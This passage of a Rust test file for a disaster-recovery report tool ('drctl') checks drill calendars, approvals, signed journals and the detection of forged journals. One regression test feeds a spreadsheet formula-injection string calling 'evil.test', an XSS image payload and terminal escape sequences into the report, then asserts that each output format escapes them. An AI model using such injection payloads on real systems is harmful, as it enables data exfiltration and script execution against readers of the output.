        .flat_map(|p| p["runs"].as_array().unwrap())
    {
        assert_eq!(run["verdict"]["verdict"], "REFUSED", "{run:#}");
    }
    assert_eq!(json["summary"]["refused"], 2);
    // The schema knows the word.
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("../../docs/report.schema.json")).unwrap();
    let validator = jsonschema::draft202012::new(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&json)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(json["summary"]["unknown"], 0);
    assert!(!junit.contains("UNKNOWN"), "{junit}");
    assert!(
        !html.contains(r#"<span class="badge unknown">"#),
        "an UNKNOWN badge"
    );
    assert!(
        incident.contains("| ledger | outcome refused; verdict REFUSED (the rpo gate refused"),
        "{incident}"
    );
    assert!(!incident.contains("UNKNOWN"), "{incident}");
}

/// The emergency run's approval, given while the run still appended
/// (recorded beside its journal, as `drctl runs approve` does): the report
/// counts it, so the run is no longer `approval_overdue` and its row names
/// the approver. A fact that names no point of the chain is not counted.
#[test]
fn a_retroactive_approval_recorded_beside_the_journal_is_counted() {
    use crate::journal::late::{Late, Seen};
    let plans = plans();
    let id = "20261110T220000Z-payments-e005";
    let overdue = |js: &[JournalText]| {
        let r = build(&request(&plans), js);
        let row = r
            .plans
            .iter()
            .flat_map(|p| &p.runs)
            .find(|x| x.run_id == id)
            .cloned()
            .unwrap();
        let found = r
            .findings
            .iter()
            .any(|f| f.kind == findings::Kind::ApprovalOverdue && f.run.as_deref() == Some(id));
        (found, row.emergency.unwrap())
    };
    let mut js = journals();
    let (found, e) = overdue(&js);
    assert!(found, "the fixed journal is overdue: {e:?}");

    let j = js.iter_mut().find(|j| j.run_id == id).unwrap();
    let lines: Vec<&str> = j.text.lines().collect();
    let approval = Late {
        id: "20261111T100000.000000Z-approval-00000001".into(),
        run_id: id.into(),
        at: t("2026-11-11T10:00:00Z"),
        host: "laptop".into(),
        pid: 7,
        seen: Seen {
            records: lines.len() as u64,
            hash: hash_line(lines.last().unwrap()),
        },
        event: gate(
            "payments",
            GateName::Approval,
            Decision::Retroactive,
            json!({"approved_by": "arn:aws:iam::123456789012:user/carol", "reason": "right call"}),
        ),
        hash: "a".repeat(64),
    };
    let mut forged = approval.clone();
    forged.id = "20261111T100000.000000Z-approval-00000002".into();
    forged.seen.hash = "b".repeat(64);
    j.late = vec![forged];
    let (found, _) = overdue(&js);
    assert!(
        found,
        "a fact anchored nowhere in the chain counts for nothing"
    );

    js.iter_mut().find(|j| j.run_id == id).unwrap().late = vec![approval];
    let (found, e) = overdue(&js);
    assert!(!found, "approved before its deadline: {e:?}");
    assert_eq!(e.approved_at, Some(t("2026-11-11T10:00:00Z")));
    assert_eq!(
        e.approved_by.as_deref(),
        Some("arn:aws:iam::123456789012:user/carol")
    );
    assert!(!e.overdue);
}

/// Regression: what a journal said (an operator's name, a cloud's error
/// message) went into Markdown, CSV, JUnit and HTML as written: a report
/// opened in a spreadsheet ran `=HYPERLINK(...)`, a Markdown viewer made
/// links, images and HTML of it, and a terminal ran its escape sequences.
#[test]
fn regression_hostile_journal_text_is_escaped_in_every_format() {
    let plans = plans();
    let mut r = build(&request(&plans), &journals());
    let hostile_error = "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\") <img src=x onerror=alert(1)> [click](http://evil.test) \x1b]0;owned\x07\x1b[2J";
    let run = &mut r.plans[0].runs[0];
    run.operator = Some("-2+3 <script>".into());
    run.errors = vec![hostile_error.into()];
    let csv = render::csv(&r);
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    let operator = &row[9];
    let errors = &row[24];
    assert_eq!(operator, "'-2+3 <script>");
    assert!(errors.starts_with("'=HYPERLINK"), "{errors}");
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        }
    }
    let md = render::markdown(&r);
    assert!(
        md.contains("\\<img src=x onerror=alert(1)\\>")
            && md.contains("\\[click\\](http:&#8203;//evil.test)")
            && !md.contains("http://evil"),
        "{md}"
    );
    for line in md
        .lines()
        .filter(|l| l.contains("evil") || l.contains("script"))
    {
        let bare = |c: char| {
            line.match_indices(c)
                .any(|(i, _)| !line[..i].ends_with('\\'))
        };
        assert!(!bare('<') && !bare('['), "every < and [ escaped: {line}");
    }
    assert!(
        !md.contains('\x1b') && !md.contains('\x07'),
        "no control character"
    );
    let junit = render::junit(&r);
    assert!(
        !junit.contains('\x1b') && !junit.contains("<img"),
        "{junit}"
    );
    let html = super::html::html(&r);
    assert!(
        !html.contains('\x1b') && !html.contains("<img src=x"),
        "escaped"
    );
}

/// Every kind of drill resource a journal can hold is one the report's
/// schema describes (`drill_resource`): a drill of a kind added later
/// (`raised`, the generic `drill-raise`'s) once broke a schema-valid
/// report. The match has no catch-all: a new kind names itself here.
#[test]
fn every_drill_resource_kind_is_in_the_report_schema() {
    use crate::journal::Temp;
    use crate::plan::spec::ResourceKind;
    let (r, s) = (String::from("us-east4"), String::from("x"));
    let samples = [
        Temp::Database {
            region: r.clone(),
            id: s.clone(),
        },
        Temp::Cluster {
            region: r.clone(),
            id: s.clone(),
        },
        Temp::Capacity {
            region: r.clone(),
            group: s.clone(),
        },
        Temp::NodeCapacity {
            region: r.clone(),
            cluster: s.clone(),
            group: s.clone(),
            restore: crate::cloud::Capacity {
                min: 0,
                desired: 1,
                max: 2,
            },
        },
        Temp::SqlClone {
            region: r.clone(),
            project: s.clone(),
            name: s.clone(),
        },
        Temp::MigSize {
            region: r.clone(),
            project: s.clone(),
            group: s.clone(),
            autoscaler: Some(s.clone()),
            restore: 1,
        },
        Temp::RunFloor {
            region: r.clone(),
            project: s.clone(),
            service: s.clone(),
            restore: 0,
        },
        Temp::Raised {
            kind: ResourceKind::CloudRun,
            region: r.clone(),
            group: s.clone(),
            restore: crate::cloud::Size::Count(0),
        },
        Temp::Raised {
            kind: ResourceKind::EcsService,
            region: r.clone(),
            group: s.clone(),
            restore: crate::cloud::Size::Count(1),
        },
        Temp::Raised {
            kind: ResourceKind::Compute,
            region: r.clone(),
            group: s.clone(),
            restore: crate::cloud::Size::Bounds(crate::cloud::Capacity {
                min: 0,
                desired: 0,
                max: 8,
            }),
        },
        Temp::CloudRecord {
            project: s.clone(),
            zone: s.clone(),
            name: s.clone(),
            rtype: "CNAME".into(),
        },
        Temp::Record {
            kind: crate::plan::spec::ResourceKind::Dns,
            project: String::new(),
            zone: s.clone(),
            name: s.clone(),
            rtype: "CNAME".into(),
        },
        Temp::Control {
            region: r.clone(),
            url: s.clone(),
        },
        Temp::HealthCheck {
            region: r.clone(),
            control: s.clone(),
        },
        Temp::Copy {
            kind: ResourceKind::CloudSql,
            region: r.clone(),
            address: format!("p/{s}"),
        },
    ];
    let index = |t: &Temp| match t {
        Temp::Database { .. } => 0,
        Temp::Cluster { .. } => 1,
        Temp::Capacity { .. } => 2,
        Temp::NodeCapacity { .. } => 3,
        Temp::SqlClone { .. } => 4,
        Temp::MigSize { .. } => 5,
        Temp::RunFloor { .. } => 6,
        Temp::Raised { .. } => 7,
        Temp::CloudRecord { .. } => 8,
        Temp::Record { .. } => 9,
        Temp::Control { .. } => 10,
        Temp::HealthCheck { .. } => 11,
        Temp::Copy { .. } => 12,
    };
    let covered: std::collections::BTreeSet<usize> = samples.iter().map(index).collect();
    assert_eq!(covered, (0..13).collect(), "a sample of every kind");
    let mut schema: serde_json::Value =
        serde_json::from_str(include_str!("../../docs/report.schema.json")).unwrap();
    let o = schema.as_object_mut().unwrap();
    o.retain(|k, _| k.starts_with('$'));
    o.insert("$ref".into(), "#/$defs/drill_resource".into());
    let validator = jsonschema::draft202012::new(&schema).unwrap();
    for t in &samples {
        let json = serde_json::to_value(t).unwrap();
        let errors: Vec<String> = validator
            .iter_errors(&json)
            .map(|e| e.to_string())
            .collect();
        assert!(errors.is_empty(), "{json}: {errors:#?}");
    }
}

/// Regression (issue 39: the report believed unsigned journals). With
/// public run keys listed, a journal not signed by one of them (as a
/// writer of the state without the run key writes it, its chain correct)
/// gives no figure: no run passes, each is named in a finding. Without
/// keys, the same journals pass as before.
#[test]
fn regression_with_keys_listed_unsigned_journals_give_no_figure_and_are_named() {
    let plans = plans();
    let journals = journals();
    let open = build(&request(&plans), &journals);
    assert!(open.summary.pass > 0, "{:?}", open.summary);
    let key = crate::sign::SecretKey::generate().public();
    let keys = crate::journal::RunKeys::new(None, vec![key]);
    let req = Request {
        keys: &keys,
        ..request(&plans)
    };
    let r = build(&req, &journals);
    assert_eq!(r.summary.pass, 0, "{:?}", r.summary);
    for j in &journals {
        assert!(
            r.findings
                .iter()
                .any(|f| f.kind == findings::Kind::BrokenChain
                    && f.run.as_deref() == Some(j.run_id.as_str())),
            "{} is named: {:?}",
            j.run_id,
            r.findings
        );
    }
}

/// The drill calendar of the fixed journals: payments passed its drill in
/// the week of 2026-11-16 and is not due the week after; ledger's drill
/// failed that week, and with no pass on record its next week is missed;
/// before a plan's first drill the calendar says nothing (no record).
#[test]
fn the_drill_calendar_says_what_each_week_came_to() {
    use super::pictures::{Cell, cell, weeks};
    let plans = plans();
    let r = build(&request(&plans), &journals());
    let w = weeks(r.window.from, r.window.to);
    let monday = |d: &str| {
        let t: DateTime<Utc> = format!("{d}T00:00:00Z").parse().unwrap();
        w.iter()
            .position(|x| *x == t)
            .unwrap_or_else(|| panic!("{d} in {w:?}"))
    };
    assert_eq!(
        w[0].format("%F").to_string(),
        "2026-08-24",
        "the window's first Monday"
    );
    assert_eq!(w.last().unwrap().format("%F").to_string(), "2026-11-23");
    let cells = |plan: &str| -> Vec<Cell> {
        let p = r.plans.iter().find(|p| p.plan == plan).unwrap();
        let drills = super::pictures::calendar_drills(p);
        (w.iter())
            .map(|m| cell(&drills, *m, r.window.to, p.cadence.interval_seconds))
            .collect()
    };
    let (payments, ledger) = (cells("payments"), cells("ledger"));
    let (nov16, nov23) = (monday("2026-11-16"), monday("2026-11-23"));
    assert_eq!(payments[nov16], Cell::Passed);
    assert_eq!(payments[nov23], Cell::NotDue);
    assert!(payments[..nov16].iter().all(|c| *c == Cell::NoRecord));
    assert_eq!(ledger[nov16], Cell::Failed);
    assert_eq!(ledger[nov23], Cell::Missed);
    // On the page: one row per plan, one cell per week, each with its word.
    let html = super::html::html(&r);
    assert!(html.contains(r#"<section id="calendar">"#));
    let said = r#"data-week="2026-11-16" data-cell="passed""#;
    assert_eq!(html.matches(said).count(), 1, "payments' week");
    assert_eq!(
        html.matches(r#"<td class="cell "#).count(),
        w.len() * r.plans.len()
    );
}

/// Issue 74 (attack 3, through the report; review): one line appended
/// after a drill's head, parseable and saying the run failed, took the
/// drill out of the report (and, read leniently, would have turned it
/// FAIL). The records the head covers stand: its verdict and figures are
/// the run's, and the tail is named.
#[test]
fn a_line_appended_after_a_drills_head_changes_nothing_and_is_named() {
    let plans = plans();
    let mut js = journals();
    let id = "20261117T030000Z-payments-c003";
    let j = js.iter_mut().find(|j| j.run_id == id).unwrap();
    let junk = Record {
        seq: 99,
        at: t("2026-11-17T04:00:00Z"),
        prev: "0".repeat(64),
        event: finished(Outcome::Failed),
        fence: Default::default(),
        late: None,
    };
    j.text.push_str(&serde_json::to_string(&junk).unwrap());
    j.text.push('\n');
    let r = build(&request(&plans), &js);
    let p = r.plans.iter().find(|p| p.plan == "payments").unwrap();
    let row = p.runs.iter().find(|x| x.run_id == id).unwrap();
    assert_eq!(row.verdict, Verdict::Pass, "{:?}", row.verdict);
    assert!(row.chain.ok, "{:?}", row.chain);
    let tail = row.chain.tail.as_deref().expect("the tail is named");
    assert!(tail.starts_with("line "), "{tail}");
    assert!(super::html::html(&r).contains("after its head, not the run"));
}

/// Issue 74, attack 7: journals whose chain does not verify still filled
/// the drill calendar: a forged drill in a week payments passed (its
/// verdict UNKNOWN, as every unverified run's) turned a week F. It is
/// left out of the calendar and the trends, and named by the findings.
#[test]
fn regression_a_forged_drill_turned_a_week_failed() {
    let plans = plans();
    let mut js = journals();
    let forged_id = "20261123T030000Z-payments-ffff";
    let mut j = J::new(forged_id, "2026-11-23T03:00:00Z");
    let flags = json!({"drill": {"depth": "shadow"}});
    j.at(
        0.0,
        started(forged_id, RunKind::Drill, "payments", flags, None, &[]),
    )
    .at(60.0, finished(Outcome::Failed));
    let mut forged = j.build();
    // Written by hand: its chain does not verify.
    forged.text = forged.text.replacen("ops-1", "ops-9", 1);
    js.push(forged);
    let r = build(&request(&plans), &js);
    let p = r.plans.iter().find(|p| p.plan == "payments").unwrap();
    let forged = p
        .runs
        .iter()
        .find(|x| x.run_id == forged_id)
        .expect("listed");
    assert!(!forged.chain.ok, "{:?}", forged.chain);
    let html = super::html::html(&r);
    let said = r#"data-week="2026-11-16" data-cell="passed""#;
    assert_eq!(html.matches(said).count(), 1, "payments' week passed");
    let week = (html.split(r#"<section id="calendar">"#).nth(1))
        .and_then(|cal| {
            cal.split(r#"data-plan="payments"><th>payments</th>"#)
                .nth(1)
        })
        .and_then(|row| row.split(r#"data-week="2026-11-23""#).nth(1))
        .and_then(|cell| cell.split('"').nth(1))
        .unwrap_or_default();
    assert_eq!(week, "not due", "the week after the passed drill: {week}");
    let trend = format!(r#"data-run="{forged_id}" data-seconds"#);
    assert_eq!(html.matches(&trend).count(), 0, "not a point of the trends");
    assert!(
        (r.findings.iter()).any(|f| f.run.as_deref() == Some(forged_id)),
        "{:?}",
        r.findings
    );
}

/// Each plan's small multiples draw every run's own figure against the
/// target; an unknown figure is drawn unknown, never as zero.
#[test]
fn the_small_multiples_draw_each_runs_figure_and_unknown_as_unknown() {
    let plans = plans();
    let r = build(&request(&plans), &journals());
    let html = super::html::html(&r);
    let p = r.plans.iter().find(|p| p.plan == "payments").unwrap();
    for run in p.runs.iter().filter(|r| r.chain.ok) {
        let secs = run
            .rto
            .seconds
            .map(|s| format!("{s:.1}"))
            .unwrap_or_default();
        let point = format!(r#"data-run="{}" data-seconds="{secs}""#, run.run_id);
        assert!(html.contains(&point), "{point}");
    }
    // The tampered journal is not drawn (issue 74, attack 7: a forged run
    // would be a point of the trend); the findings name it.
    let tampered = r#"data-run="20260920T120000Z-payments-f006" data-seconds"#;
    assert_eq!(html.matches(tampered).count(), 0, "left out of the trends");
    assert!(
        (r.findings.iter()).any(|f| f.run.as_deref() == Some("20260920T120000Z-payments-f006")),
        "{:?}",
        r.findings
    );
    for (what, goal) in [("RTO", p.rto_target_seconds), ("RPO", p.rpo_target_seconds)] {
        let chart = format!(r#"data-plan="payments" data-what="{what}" data-target="{goal}""#);
        assert_eq!(html.matches(&chart).count(), 1, "{chart}");
    }
}

/// A run's RTO waterfall: its phases add up to the RTO achieved (from
/// the declared disaster, or the run's start), and a run whose RTO is
/// unknown has a phase said unknown, never zero.
#[test]
fn the_rto_waterfall_adds_up_to_the_rto_and_says_unknown_as_unknown() {
    let plans = plans();
    let r = build(&request(&plans), &journals());
    let row = |id: &str| {
        (r.plans.iter().flat_map(|p| &p.runs))
            .find(|x| x.run_id == id)
            .unwrap()
    };
    let a = row("20261001T100000Z-payments-a001");
    let phases = super::pictures::phases(a);
    let names: Vec<&str> = phases.iter().map(|p| p.name).collect();
    // Declared: a decide phase; no verification step: it acts up to its
    // RTO point (no convergence apart).
    assert_eq!(names, ["decide", "act"]);
    let sum: f64 = phases.iter().map(|p| p.seconds.expect("measured")).sum();
    assert!(
        (sum - a.rto.seconds.unwrap()).abs() < 0.01,
        "{sum} {phases:#?}"
    );
    let f = row("20260920T120000Z-payments-f006");
    let unknown = super::pictures::phases(f);
    assert!(unknown.iter().any(|p| p.seconds.is_none()), "{unknown:#?}");
    let html = super::html::html(&r);
    assert!(html.contains(
        r#"<svg class="waterfall" data-run="20261001T100000Z-payments-a001" data-plan="payments""#
    ));
    assert!(
        html.contains(r#"class="phase unknown converge" data-phase="converge" data-seconds="""#)
    );
}

/// The report over 200 runs of 20 plans is built and rendered as HTML (every
/// picture included) in under 2 s, in the test profile: an auditor's
/// quarter of a large estate, made on demand. Each plan is a copy of
/// payments under its own name, each run a passing failover with its own
/// RTO and RPO. The time is the best of up to three builds: the unit
/// tests run six at a time on two cores, and a build that shared them
/// with the others measured the others too (2.5 s in one CI on a slower
/// machine, under 2 s alone).
#[test]
fn a_report_of_200_runs_and_20_plans_renders_in_under_two_seconds() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("plans");
    let dir = tempfile::tempdir().expect("temp dir");
    let payments = std::fs::read_to_string(root.join("payments.toml")).unwrap();
    let tiers = std::fs::read_to_string(root.join("tiers.toml")).unwrap();
    std::fs::write(dir.path().join("tiers.toml"), tiers).unwrap();
    let names: Vec<String> = (0..20).map(|i| format!("p{i:02}")).collect();
    for n in &names {
        let text = without_eu_west_1(&payments).replace("payments", n);
        std::fs::write(dir.path().join(format!("{n}.toml")), text).unwrap();
    }
    let loaded = crate::plan::load(&[dir.path().to_path_buf()]);
    assert!(!loaded.has_errors(), "{:?}", loaded.diagnostics);
    let plans = loaded.plans;
    let mut journals = Vec::new();
    for (i, n) in names.iter().enumerate() {
        for k in 0..10 {
            let at = t("2026-09-01T00:00:00Z") + Duration::hours((k * 200 + i) as i64);
            let id = format!("{}-{n}-r{k:03}", at.format("%Y%m%dT%H%M%SZ"));
            let at = at.to_rfc3339();
            let rto = 200.0 + (i * 10 + k) as f64;
            let mut j = failover(&id, &at, 1.0 + k as f64, rto, approved());
            for (_, e) in j.events.iter_mut() {
                let renamed = serde_json::to_string(e).unwrap().replace("payments", n);
                *e = serde_json::from_str(&renamed).unwrap();
            }
            journals.push(j.build());
        }
    }
    let bound = std::time::Duration::from_secs(2);
    let mut best = std::time::Duration::MAX;
    for attempt in 1..=3 {
        let started = std::time::Instant::now();
        let r = build(&request(&plans), &journals);
        let html = super::html::html(&r);
        let took = started.elapsed();
        eprintln!(
            "report of 200 runs and 20 plans: built and rendered ({} bytes) in {took:?} (build {attempt})",
            html.len()
        );
        assert_eq!((r.summary.runs, r.plans.len()), (200, 20));
        assert_eq!(html.matches(r#"<svg class="waterfall""#).count(), 200);
        assert_eq!(html.matches(r#"<svg class="trend""#).count(), 40);
        best = best.min(took);
        if best < bound {
            break;
        }
    }
    assert!(
        best < bound,
        "built and rendered in {best:?} at best of three"
    );
}

/// Where each plan served before and after the window, from journals that
/// verify: payments moved to us-east-1 by its passing failovers (the
/// tampered one moves nothing), and the page draws a ring at home and a
/// filled mark at the target.
#[test]
fn before_and_after_says_where_each_plan_served_from_verified_journals() {
    let plans = plans();
    let r = build(&request(&plans), &journals());
    let p = r.plans.iter().find(|p| p.plan == "payments").unwrap();
    assert_eq!(
        (p.placement.before.as_str(), p.placement.after.as_str()),
        ("us-west-2", "us-east-1")
    );
    let moved: Vec<&str> = p
        .placement
        .moves
        .iter()
        .map(|m| m.run_id.as_str())
        .collect();
    assert!(
        !moved.contains(&"20260920T120000Z-payments-f006"),
        "{moved:?}"
    );
    assert!(
        moved.contains(&"20261001T100000Z-payments-a001"),
        "{moved:?}"
    );
    let html = super::html::html(&r);
    assert!(html.contains(
        r#"<svg class="placement" data-plan="payments" data-before="us-west-2" data-after="us-east-1""#
    ));
    assert!(html.contains(r#"<g class="region before" data-region="us-west-2">"#));
    assert!(html.contains(r#"<g class="region after" data-region="us-east-1">"#));
}

/// The report judges a plan from journals and the plan alone: verified
/// while its definition is the one its last passing drill journaled and
/// the drill is within the interval; an edited entry is named; the world
/// facts of the drill's inventory are left to `drctl status`.
#[test]
fn the_report_says_whether_each_plan_is_verified_from_its_definition() {
    use crate::runs::verified::definition;
    let plans = plans();
    let plan = plans.iter().find(|p| p.name() == "payments").unwrap();
    let now = t("2026-11-23T12:00:00Z");
    let mut inventory = definition(plan);
    inventory.insert("payments-api max in us-east-1".into(), "8".into());
    let drill = crate::runs::schedule::DrillRun {
        run_id: "20261122T030000Z-payments-g007".into(),
        plan: "payments".into(),
        started: now - Duration::days(1),
        outcome: Outcome::Succeeded,
        verdict: Verdict::Pass,
        inventory: Some(inventory),
        target: "us-east-1".into(),
        depth: "shadow".into(),
        authenticated: true,
        restore_test: None,
    };
    let cadence = crate::runs::schedule::cadence(std::slice::from_ref(plan), &[drill], now);
    let v = crate::runs::verified::by_definition(plan, &cadence[0], now);
    assert!(v.verified, "{v:#?}");
    let mut edited = plan.clone();
    edited.spec.compute[0].active.max += 1;
    let v = crate::runs::verified::by_definition(&edited, &cadence[0], now);
    assert!(!v.verified);
    assert_eq!(
        v.differences,
        vec!["plan changed: `[[compute]] payments-api` edited".to_string()]
    );
    assert!(super::render::verified_text(&v).starts_with("NOT VERIFIED: changed since"));
}

/// A failover journal of payments that journaled `facts` as its plan's
/// definition, and the run's row and records as the report reads them.
fn failover_with_definition(
    facts: crate::runs::verified::Inventory,
) -> (RunRow, Vec<Record>, JournalText) {
    let id = "20261001T100000Z-payments-a001";
    let mut j = failover(id, "2026-10-01T10:00:00Z", 12.0, 400.0, approved());
    j.events.insert(
        3,
        (
            0.45,
            Event::Inventory {
                plan: "payments".into(),
                items: facts,
            },
        ),
    );
    let text = j.build();
    let (row, _) = a001(std::slice::from_ref(&text));
    let records = text
        .text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (row, records, text)
}

/// A passing drill of payments at `started`, with `inventory`.
fn passing_drill(
    started: DateTime<Utc>,
    inventory: crate::runs::verified::Inventory,
) -> crate::runs::schedule::DrillRun {
    crate::runs::schedule::DrillRun {
        run_id: format!("{}-payments-d001", started.format("%Y%m%dT%H%M%SZ")),
        plan: "payments".into(),
        started,
        outcome: Outcome::Succeeded,
        verdict: Verdict::Pass,
        inventory: Some(inventory),
        target: "us-east-1".into(),
        depth: "shadow".into(),
        authenticated: true,
        restore_test: None,
    }
}

/// A failover runs on a plan that is not verified, and its report says
/// so: the plan as the run began (the definition it journaled) against
/// the last passing drill before it, aged to the run's start. A drill
/// after the run does not verify it; an edit made before the run is
/// named; a drill older than the tier's interval is banded.
#[test]
fn a_failovers_report_says_whether_its_plan_was_verified_when_it_began() {
    use crate::runs::verified::{Band, definition};
    let plans = plans();
    let plan = plans.iter().find(|p| p.name() == "payments").unwrap();
    let own = definition(plan);
    let (row, records, _) = failover_with_definition(own.clone());
    let started = row.started;
    let judge = |drills: &[crate::runs::schedule::DrillRun]| {
        verified_at_start(plan, &row, &records, drills).expect("a failover is judged")
    };

    // No drill before it: not verified, and the report says so.
    let none = judge(&[]);
    assert!(!none.verified);
    assert_eq!(none.reason.as_deref(), Some("no passing drill on record"));
    // A passing drill the day before, of the same definition: verified.
    let day_before = passing_drill(started - Duration::days(1), own.clone());
    let v = judge(std::slice::from_ref(&day_before));
    assert!(v.verified, "{v:#?}");
    assert_eq!(v.drill.as_deref(), Some(day_before.run_id.as_str()));
    // A drill that started after the run proves nothing about it.
    let after = passing_drill(started + Duration::hours(1), own.clone());
    assert!(!judge(std::slice::from_ref(&after)).verified);
    // The plan was edited between the drill and the run: named.
    let mut edited = plan.clone();
    edited.spec.compute[0].active.max += 1;
    let (row2, records2, _) = failover_with_definition(definition(&edited));
    let v = verified_at_start(plan, &row2, &records2, std::slice::from_ref(&day_before))
        .expect("judged");
    assert!(!v.verified);
    assert_eq!(
        v.differences,
        vec!["plan changed: `[[compute]] payments-api` edited".to_string()]
    );
    // The drill was over 4x the tier's interval old when the run began.
    let interval = chrono::Duration::from_std(plan.tier.drill_interval).unwrap();
    let old = passing_drill(started - interval * 5, own.clone());
    let v = judge(std::slice::from_ref(&old));
    assert!(!v.verified);
    assert_eq!(v.staleness, Some(Band::Over4x));
}

/// Through the whole report: the row carries it (JSON), and Markdown and
/// HTML say it; a run that journaled no definition (before drctl did, or
/// a drill) carries nothing, never "verified".
#[test]
fn the_report_renders_a_failovers_verified_state_at_its_start() {
    let plans = plans();
    let plan = plans.iter().find(|p| p.name() == "payments").unwrap();
    let (row, _, text) = failover_with_definition(crate::runs::verified::definition(plan));
    let v = row
        .verified_at_start
        .as_ref()
        .expect("judged in the report");
    assert!(!v.verified, "no drill in these journals: {v:#?}");
    let report = build(&request(&plans), std::slice::from_ref(&text));
    let md = render::markdown(&report);
    assert!(
        md.contains("- Plan at the run's start: NOT VERIFIED: no passing drill on record"),
        "{md}"
    );
    let html = super::html::html(&report);
    assert!(html.contains("NOT VERIFIED</span> no passing drill on record"));
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(
        json["plans"][0]["runs"][0]["verified_at_start"]["verified"],
        false
    );
    // Without a journaled definition: no judgement at all.
    let (old, _) = a001(&journals());
    assert!(old.verified_at_start.is_none());
    // Nor in the run's own report (its journal alone, no drill history).
    let own = of_running(plan, &text, t("2026-10-01T10:10:00Z"));
    let row = &own.plans[0].runs[0];
    assert!(row.verified_at_start.is_none(), "{row:#?}");
    // Nor from a journal that does not verify (its definition could be
    // anything a bucket writer wrote).
    let mut forged = text.clone();
    forged.text = forged.text.replacen("payments-api", "payments-apx", 1);
    let report = build(&request(&plans), std::slice::from_ref(&forged));
    let row = &report.plans[0].runs[0];
    assert!(!row.chain.ok, "the edit breaks the chain");
    assert!(row.verified_at_start.is_none(), "{row:#?}");
}
